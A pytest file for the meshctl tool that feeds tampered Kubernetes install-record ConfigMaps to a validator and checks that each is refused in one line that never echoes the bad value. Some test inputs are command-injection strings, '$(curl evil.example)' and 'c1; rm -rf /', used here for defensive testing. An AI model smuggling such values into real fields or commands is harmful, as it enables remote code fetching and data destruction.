"""The install record as untrusted input: every bad shape refused in one line, offline.

The record (``istio-system/meshctl-install``) is cluster data that teardown acts on with
the operator's rights.  Each case below starts from a record as meshctl writes it and
changes one thing; :func:`install_record.problem` must refuse it, naming the cluster and
the key, in one line that never echoes a long or hostile value.  The same check stops
teardown before its first delete (``teardown.check_records``) and bootstrap before its
first write; the sandbox half is ``tests/test_teardown_untrusted.py``.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest

from meshctl import ownership
from meshctl.errors import CheckFailed
from meshctl.mesh import install_record as rec
from meshctl.mesh import teardown

CLUSTER, MESH = "cluster1", "mesh1"
UID = "6c0f3b8e-5a0e-4c57-9d43-2f1f8d5f0b11"
HOSTILE = "$(curl evil.example)"


def iop(name: str = f"meshctl-{CLUSTER}", *, namespace: str | None = "istio-system",
        kind: str = "IstioOperator", api: str = rec.IOP_API_VERSION,
        extra_meta: dict | None = None) -> str:
    meta: dict[str, Any] = {"name": name}
    if namespace is not None:
        meta["namespace"] = namespace
    meta.update(extra_meta or {})
    doc = {"apiVersion": api, "kind": kind, "metadata": meta,
           "spec": {"values": {"global": {"meshID": MESH}}}}
    return json.dumps(doc)  # JSON is YAML


def with_operator(data: dict, key: str, text: str, *, rehash: bool = True) -> None:
    data[rec.OPERATOR_PREFIX + key] = text
    if rehash:
        data[key] = rec.digest(text)


def good(found: bool = False) -> dict[str, Any]:
    """A record as install.py writes it: created istio-system, or found one (then the
    previous values of the label and annotation it set)."""
    data = {rec.MESH: MESH, rec.VERSION: "1.31-dev", rec.CRDS: "installed",
            rec.NAMESPACE: json.dumps({"created": not found, "uid": UID})}
    if found:
        data[rec.FOREIGN_FIELDS] = json.dumps({
            "labels": {rec.NETWORK_LABEL: {"previous": "their-network",
                                           "manager": "kubectl-label"}},
            "annotations": {rec.CONTROL_PLANE_ANNOTATION: {"previous": None,
                                                           "manager": None}}})
    data[rec.INJECTION] = json.dumps({
        "default": {"uid": UID, "created": False,
                    "previous": {"istio-injection": "disabled", "istio.io/rev": None}},
        "apps": {"uid": UID, "created": True,
                 "previous": {"istio-injection": None, "istio.io/rev": None}}})
    with_operator(data, rec.CONTROL_PLANE, iop())
    with_operator(data, rec.EASTWEST, iop(f"meshctl-eastwest-{CLUSTER}"))
    return {"apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": "meshctl-install", "namespace": "istio-system",
                         "labels": ownership.labels(MESH)},
            "data": data}


def fields(doc: Any) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        cm["data"][rec.FOREIGN_FIELDS] = doc if isinstance(doc, str) else json.dumps(doc)
    return change


def label(key: str = rec.NETWORK_LABEL, previous: Any = "n1", manager: Any = "kubectl",
          section: str = "labels", **extra: Any) -> Callable[[dict], None]:
    return fields({section: {key: {"previous": previous, "manager": manager, **extra}}})


def put(key: str, value: Any) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        cm["data"][key] = value
    return change


def drop(key: str) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        cm["data"].pop(key)
    return change


def ns(doc: Any) -> Callable[[dict], None]:
    return put(rec.NAMESPACE, doc if isinstance(doc, str) else json.dumps(doc))


def operator(text: str, key: str = rec.CONTROL_PLANE, *, rehash: bool = True
             ) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        with_operator(cm["data"], key, text, rehash=rehash)
    return change


def injected(ns_name: str = "default", **change: Any) -> Callable[[dict], None]:
    """The injection entry of ``ns_name`` with ``change`` over a good one (a key given
    as ``None`` is dropped; ``_raw`` replaces the whole entry)."""
    entry: Any = {"uid": UID, "created": False,
                  "previous": {"istio-injection": "disabled", "istio.io/rev": None}}
    if "_raw" in change:
        entry = change.pop("_raw")
    for key, value in change.items():
        if value is None:
            entry.pop(key)
        else:
            entry[key] = value
    return put(rec.INJECTION, json.dumps({ns_name: entry}))


def mesh_label(value: str) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        cm["metadata"]["labels"][ownership.MESH] = value
    return change


def both(*changes: Callable[[dict], None]) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        for c in changes:
            c(cm)
    return change


def raw(key: str, value: Any) -> Callable[[dict], None]:
    def change(cm: dict) -> None:
        cm[key] = value
    return change


# (id, change, words the one line must hold)
BAD: list[tuple[str, Callable[[dict], None], str]] = [
    # the mesh: another mesh's files must never tear this one down
    ("mesh-other", put(rec.MESH, "mesh2"), "installed it for mesh 'mesh2', not 'mesh1'"),
    ("mesh-case", put(rec.MESH, "MESH1"), "installed it for mesh 'MESH1'"),
    ("mesh-missing", drop(rec.MESH), "key 'mesh' is missing"),
    ("mesh-empty", put(rec.MESH, ""), "key 'mesh' is not a meshID"),
    ("mesh-newline", put(rec.MESH, "mesh1\nmesh2"), "key 'mesh' is not a meshID"),
    ("mesh-too-long", put(rec.MESH, "m" * 64), "key 'mesh' is not a meshID"),
    ("mesh-hostile", put(rec.MESH, HOSTILE), "key 'mesh' is not a meshID"),
    ("mesh-trailing-newline", put(rec.MESH, "mesh1\n"), "key 'mesh' is not a meshID"),
    ("mesh-label-disagrees", mesh_label("mesh2"), "label and its key 'mesh' disagree"),
    ("mesh-both-other", both(mesh_label("mesh2"), put(rec.MESH, "mesh2")),
     "installed it for mesh 'mesh2'"),
    # istioctl version
    ("version-space", put(rec.VERSION, "1.31 dev"), "not an istioctl version"),
    ("version-empty", put(rec.VERSION, ""), "not an istioctl version"),
    ("version-hostile", put(rec.VERSION, HOSTILE), "not an istioctl version"),
    ("version-long", put(rec.VERSION, "1" * 200), "not an istioctl version"),
    ("version-newline", put(rec.VERSION, "1.31\n"), "not an istioctl version"),
    # namespace: whether meshctl created istio-system, and its uid
    ("ns-not-json", ns("{created"), "key 'namespace' is not a JSON object"),
    ("ns-list", ns([True, UID]), "key 'namespace' is not a JSON object"),
    ("ns-no-uid", ns({"created": True}), "key 'namespace' is not a JSON object"),
    ("ns-extra-key", ns({"created": True, "uid": UID, "owner": "x"}), "created and uid"),
    ("ns-created-text", ns({"created": "yes", "uid": UID}), "created is not true or false"),
    ("ns-created-int", ns({"created": 1, "uid": UID}), "created is not true or false"),
    ("ns-uid-null", ns({"created": True, "uid": None}), "uid is not a Kubernetes uid"),
    ("ns-uid-int", ns({"created": True, "uid": 7}), "uid is not a Kubernetes uid"),
    ("ns-uid-path", ns({"created": True, "uid": "../../x"}), "uid is not a Kubernetes uid"),
    ("ns-uid-long", ns({"created": True, "uid": "a" * 65}), "uid is not a Kubernetes uid"),
    ("ns-uid-newline", ns({"created": True, "uid": UID + "\n"}), "uid is not a Kubernetes"),
    # labels and annotations to restore: only what meshctl sets, to values they can hold
    ("fields-not-json", fields("{labels"), "is not a JSON object"),
    ("fields-list", fields([]), "is not a JSON object"),
    ("fields-section", fields({"metadata": {}}), "not labels/annotations"),
    ("fields-section-list", fields({"labels": []}), "not labels/annotations"),
    ("pod-security-label", label("pod-security.kubernetes.io/enforce", "privileged"),
     "pod-security.kubernetes.io/enforce', which meshctl never sets"),
    ("managed-by-label", label(ownership.MANAGED_BY, "helm"), "which meshctl never sets"),
    ("injection-label", label("istio-injection", "enabled"), "which meshctl never sets"),
    ("rev-label", label("istio.io/rev", "canary"), "which meshctl never sets"),
    ("last-applied-annotation", label("kubectl.kubernetes.io/last-applied-configuration",
                                      "{}", section="annotations"), "never sets"),
    ("network-as-annotation", label(section="annotations"), "never sets"),
    ("control-plane-as-label", label(rec.CONTROL_PLANE_ANNOTATION, "c1"), "never sets"),
    ("field-not-object", fields({"labels": {rec.NETWORK_LABEL: "n1"}}),
     "not {previous, manager}"),
    ("field-no-manager", fields({"labels": {rec.NETWORK_LABEL: {"previous": "n1"}}}),
     "not {previous, manager}"),
    ("field-extra-key", label(value="x"), "not {previous, manager}"),
    ("previous-space", label(previous="has space"), "not one topology.istio.io/network can"),
    ("previous-too-long", label(previous="n" * 64), "previous value is not one"),
    ("previous-slash", label(previous="a/b"), "previous value is not one"),
    ("previous-hostile", label(previous=HOSTILE), "previous value is not one"),
    ("previous-number", label(previous=5), "previous value is not one"),
    ("previous-list", label(previous=["n1"]), "previous value is not one"),
    ("previous-dash-end", label(previous="n1-"), "previous value is not one"),
    ("previous-newline", label(previous="n1\n"), "previous value is not one"),
    ("annotation-double-comma", label(rec.CONTROL_PLANE_ANNOTATION, "a,,b",
                                      section="annotations"), "previous value is not one"),
    ("annotation-hostile", label(rec.CONTROL_PLANE_ANNOTATION, "c1; rm -rf /",
                                 section="annotations"), "previous value is not one"),
    ("annotation-too-many", label(rec.CONTROL_PLANE_ANNOTATION, ",".join(["c"] * 40),
                                  section="annotations"), "previous value is not one"),
    ("manager-newline", label(manager="kubectl\nhelm"), "manager is not a field manager"),
    ("manager-long", label(manager="m" * 200), "manager is not a field manager"),
    ("manager-number", label(manager=42), "manager is not a field manager"),
    ("manager-empty", label(manager=""), "manager is not a field manager"),
    # injection namespaces: names, exactly {uid, created, previous}, only the two labels
    ("inj-not-json", put(rec.INJECTION, "{default"), "'injection-namespaces' is not a JSON"),
    ("inj-list", put(rec.INJECTION, "[]"), "is not a JSON object"),
    ("inj-bad-name", injected("Default"), "not a namespace name"),
    ("inj-hostile-name", injected(HOSTILE), "not a namespace name"),
    ("inj-long-name", injected("n" * 64), "not a namespace name"),
    ("inj-entry-list", injected(_raw=[UID]), "default: not {uid, created, previous}"),
    ("inj-extra-key", injected(owner="x"), "default: not {uid, created, previous}"),
    ("inj-no-previous", injected(previous=None), "not {uid, created, previous}"),
    ("inj-bad-uid", injected(uid="../../x"), "default: uid is not a Kubernetes uid"),
    ("inj-uid-null", injected(uid=7), "uid is not a Kubernetes uid"),
    ("inj-created-text", injected(created="yes"), "created is not true or false"),
    ("inj-other-label", injected(previous={"istio-injection": None, "istio.io/rev": None,
                                           "pod-security.kubernetes.io/enforce": "x"}),
     "previous does not hold exactly istio-injection, istio.io/rev"),
    ("inj-label-swapped", injected(previous={"istio-injection": None, "team": "x"}),
     "previous does not hold exactly"),
    ("inj-one-label", injected(previous={"istio-injection": None}), "does not hold exactly"),
    ("inj-previous-list", injected(previous=["istio-injection"]), "does not hold exactly"),
    ("inj-value-hostile", injected(previous={"istio-injection": HOSTILE,
                                             "istio.io/rev": None}),
     "previous istio-injection is not a label value"),
    ("inj-value-number", injected(previous={"istio-injection": None, "istio.io/rev": 1}),
     "previous istio.io/rev is not a label value"),
    ("inj-value-newline", injected(previous={"istio-injection": "enabled\n",
                                             "istio.io/rev": None}), "not a label value"),
    # CRDs
    ("crds-yes", put(rec.CRDS, "yes"), "key 'crds' is not installed or existing"),
    ("crds-empty", put(rec.CRDS, ""), "key 'crds' is not installed or existing"),
    ("crds-case", put(rec.CRDS, "INSTALLED"), "key 'crds' is not installed or existing"),
    # hashes
    ("hash-short", put(rec.CONTROL_PLANE, "abc"), "is not a SHA-256"),
    ("hash-upper", put(rec.EASTWEST, "A" * 64), "is not a SHA-256"),
    ("hash-long", put(rec.CONTROL_PLANE, "a" * 65), "is not a SHA-256"),
    ("hash-newline", put(rec.CONTROL_PLANE, "a" * 64 + "\n"), "is not a SHA-256"),
    # the IstioOperator text: meshctl's name and kind, its hash beside it
    ("operator-edited", operator(iop() + " ", rehash=False), "does not match its recorded"),
    ("operator-no-hash", both(operator(iop()), drop(rec.CONTROL_PLANE)),
     "has no hash recorded beside it"),
    ("operator-other-name", operator(iop("installed-state")),
     "is not meshctl's IstioOperator istio-system/meshctl-cluster1"),
    ("operator-other-cluster", operator(iop("meshctl-cluster2")), "not meshctl's"),
    ("operator-empty-name", operator(iop("")), "not meshctl's"),
    ("operator-swapped", operator(iop(), rec.EASTWEST),
     "not meshctl's IstioOperator istio-system/meshctl-eastwest-cluster1"),
    ("operator-namespace", operator(iop(namespace="team")), "not meshctl's"),
    ("operator-labels", operator(iop(extra_meta={"labels": {"a": "b"}})), "not meshctl's"),
    ("operator-kind", operator(iop(kind="Deployment")), "is not an IstioOperator"),
    ("operator-api", operator(iop(api="v1")), "is not an IstioOperator"),
    ("operator-two-docs", operator(iop() + "\n---\n" + iop("x")), "not one YAML document"),
    ("operator-not-yaml", operator("a: [b"), "is not YAML"),
    ("operator-scalar", operator("hello"), "not one YAML document"),
    ("operator-meta-list", operator(json.dumps({"apiVersion": rec.IOP_API_VERSION,
                                                "kind": "IstioOperator", "metadata": []})),
     "is not an IstioOperator"),
    ("operator-huge", operator(iop() + " " * rec.MAX_OPERATOR), "is over 256 KiB"),
    # keys meshctl never writes
    ("unknown-component", put("operator.cni.yaml", iop()), "'operator.cni.yaml' is not a key"),
    ("unknown-purge", put("purge", "true"), "key 'purge' is not a key meshctl writes"),
    ("unknown-labels", put("labels", "{}"), "is not a key meshctl writes"),
    ("unknown-backup", put("eastwest-gateway.yaml.bak", "x"), "is not a key meshctl writes"),
    ("unknown-long-key", put("k" * 300, "x"), "is not a key meshctl writes"),
    # the ConfigMap itself
    ("binary-data", raw("binaryData", {"x": "AAAA"}), "binary or not text"),
    ("data-not-text", put(rec.CRDS, 5), "binary or not text"),
    ("data-list", raw("data", ["mesh1"]), "binary or not text"),
]


@pytest.mark.parametrize(("change", "needle"), [(c, n) for _, c, n in BAD],
                         ids=[i for i, _, _ in BAD])
def test_bad_record_is_refused_in_one_line(change: Callable[[dict], None],
                                           needle: str) -> None:
    for found in (False, True):
        cm = copy.deepcopy(good(found))
        change(cm)
        why = rec.problem(cm, cluster=CLUSTER, mesh_id=MESH)
        assert why is not None and needle in why, (needle, why)
        assert why.startswith(f"{CLUSTER}: "), why
        assert "\n" not in why and len(why) < 300, why
        for hostile in (HOSTILE, "rm -rf", "privileged", "m" * 80, " " * 80):
            assert hostile not in why, why


def test_teardown_refuses_every_bad_record_before_any_delete() -> None:
    """All clusters' problems in one CheckFailed (exit 1), saying nothing was removed."""
    plan = type("P", (), {"mesh_id": MESH})()
    bad = copy.deepcopy(good())
    bad["data"][rec.MESH] = "mesh2"
    worse = copy.deepcopy(good())
    label("pod-security.kubernetes.io/enforce", "privileged")(worse)
    with pytest.raises(CheckFailed) as caught:
        teardown.check_records({"cluster1": bad, "cluster2": worse, "cluster3": None},
                               plan)  # type: ignore[arg-type]
    text = str(caught.value)
    assert caught.value.exit_code == 1 and "\n" not in text
    assert "cluster1: meshctl installed it for mesh 'mesh2'" in text
    assert "cluster2: install record" in text and "never sets" in text
    assert "nothing was removed on any cluster" in text and "cluster3" not in text


@pytest.mark.parametrize("found", [False, True], ids=["created", "found"])
def test_what_meshctl_writes_passes(found: bool) -> None:
    cm = good(found)
    assert rec.problem(cm, cluster=CLUSTER, mesh_id=MESH) is None
    bare = copy.deepcopy(cm)  # a record from before the mesh label, no operators yet
    del bare["metadata"]["labels"][ownership.MESH]
    for key in (*rec.COMPONENTS, *(rec.OPERATOR_PREFIX + k for k in rec.COMPONENTS)):
        del bare["data"][key]
    assert rec.problem(bare, cluster=CLUSTER, mesh_id=MESH) is None


def test_no_record_or_not_meshctls_is_no_problem() -> None:
    """No record means nothing of meshctl's to act on; one without meshctl's label is
    not meshctl's record (bootstrap refuses it apart, before its first write)."""
    assert rec.problem(None, cluster=CLUSTER, mesh_id=MESH) is None
    cm = good()
    cm["metadata"]["labels"] = {"team": "x"}
    cm["data"][rec.MESH] = "mesh2"
    assert rec.problem(cm, cluster=CLUSTER, mesh_id=MESH) is None


def test_restorable_fields_are_only_what_meshctl_sets() -> None:
    data = good(found=True)["data"]
    assert rec.foreign_fields(data) == [
        rec.Field("annotations", rec.CONTROL_PLANE_ANNOTATION, None),
        rec.Field("labels", rec.NETWORK_LABEL, "their-network")]
    cm = good(found=True)
    label("pod-security.kubernetes.io/enforce", "privileged")(cm)
    assert rec.foreign_fields(cm["data"]) == []  # never a partial restore of a bad record
    assert rec.namespace(data) == {"created": False, "uid": UID}
    assert rec.namespace({rec.NAMESPACE: "{"}) is None


def test_injection_namespaces_parse_only_what_meshctl_writes() -> None:
    """The parsed entry is the record's own; a bad one is never half-used."""
    data = good()["data"]
    got = rec.injection_namespaces(data)
    assert got["default"] == {"uid": UID, "created": False, "previous": {
        "istio-injection": "disabled", "istio.io/rev": None}}
    assert got["apps"]["created"] is True
    cm = good()
    injected(owner="x")(cm)
    assert rec.injection_namespaces(cm["data"]) == {}
    assert rec.injection_namespaces({}) == {}
